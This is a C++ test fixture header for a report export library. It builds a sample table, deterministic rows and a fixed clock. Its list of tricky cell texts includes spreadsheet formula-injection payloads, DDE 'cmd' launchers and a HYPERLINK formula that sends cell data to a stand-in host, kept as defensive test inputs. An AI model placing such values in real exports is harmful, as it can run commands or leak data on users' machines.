#pragma once

#include <memory>
#include <random>
#include <string>

#include "clients/exports/answer.h"
#include "platform/time/time.h"

namespace cairn::tests {

/// One column of each kind.
inline exports::Table MadeTable() {
  using exports::ColumnKind;
  return {.definition = "made_report",
          .version = "3",
          .parameters = {{"programme", "=all"},
                         {"suppression", "published_report/2"},
                         {"suppressed_from", "1"},
                         {"suppressed_to", "10"}},
          .unit = "episodes",
          .anchor = "first_dose",
          .maturity = "everybody",
          .data_cut = "2026-11-20",
          .exclusions = {{"30", "not_mature", 12}, {"", "no_first_dose", std::nullopt}},
          .columns = {{"site", ColumnKind::kText, "", "Where."},
                      {"day", ColumnKind::kLabel, "days", "After day zero."},
                      {"starters", ColumnKind::kCount, "episodes", "Who started."},
                      {"share", ColumnKind::kShare, "", "Of them."},
                      {"=mean", ColumnKind::kNumber, "points", "A mean."}}};
}

/// That table alone.
inline exports::Answer MadeAnswer() {
  auto answer = exports::AnswerOf(MadeTable());
  answer.as_of = "enrollment:812,prescribing:4410";
  answer.view = "published";
  answer.digest = "d1";
  return answer;
}

/// Texts that somebody could take for something else.
inline const std::vector<std::string>& MadeTexts() {
  static const std::vector<std::string> texts = {"North",
                                                 "",
                                                 "a,b",
                                                 "say \"so\"",
                                                 "two\nlines",
                                                 "carriage\r\nreturn",
                                                 "=1+1",
                                                 "=cmd|' /C calc'!A0",
                                                 "=HYPERLINK(\"http://x.example/?\"&A1,\"y\")",
                                                 "+1+1",
                                                 "-2+3",
                                                 "-5",
                                                 "@SUM(1+1)*cmd|' /C calc'!A0",
                                                 "\t=1+1",
                                                 "\r=1+1",
                                                 "'=1+1",
                                                 " =1+1",
                                                 "{=1+1}",
                                                 "<b>&amp;</b>",
                                                 "_x0041_",
                                                 "\x01 control",
                                                 "Ærøskøbing 東京 \U0001F600",
                                                 "\uFFFF\uFFFE",
                                                 "  spaces  ",
                                                 "line\u2028separator",
                                                 "1e5",
                                                 "TRUE",
                                                 "2026-01-02"};
  return texts;
}

/// The same row for the same number, from 0.
inline exports::Cells MadeRow(std::int64_t number) {
  std::mt19937_64 random(static_cast<std::uint64_t>(number) * 2654435761u + 17);
  const auto& texts = MadeTexts();
  exports::Cells cells = {
      texts[static_cast<std::size_t>(number) % texts.size()], number - 1, static_cast<std::int64_t>(random() % 100'000),
      static_cast<double>(random() % 1'000'003) / 1'000'003.0,
      std::ldexp(static_cast<double>(random()), static_cast<int>(random() % 120) - 100) * (random() % 2 == 0 ? 1 : -1)};
  const auto kind = random() % 10;
  if (kind == 0) cells[2] = cells[3] = exports::Hidden();
  if (kind == 1) cells[3] = cells[4] = std::monostate();
  if (kind == 2) cells[4] = std::int64_t{7};
  if (number == 3) cells[2] = exports::kLargestWhole;
  if (number == 4) cells[4] = -0.0;
  return cells;
}

inline exports::NextRow MadeRows(std::int64_t count) {
  return [next = std::make_shared<std::int64_t>(0), count](exports::Cells& cells) {
    if (*next == count) return false;
    cells = MadeRow((*next)++);
    return true;
  };
}

/// Always the same moment.
class StillClock final : public platform::Clock {
 public:
  platform::Instant Now() const override { return platform::Instant(std::chrono::seconds(1'795'000'000)); }
};

}  // namespace cairn::tests
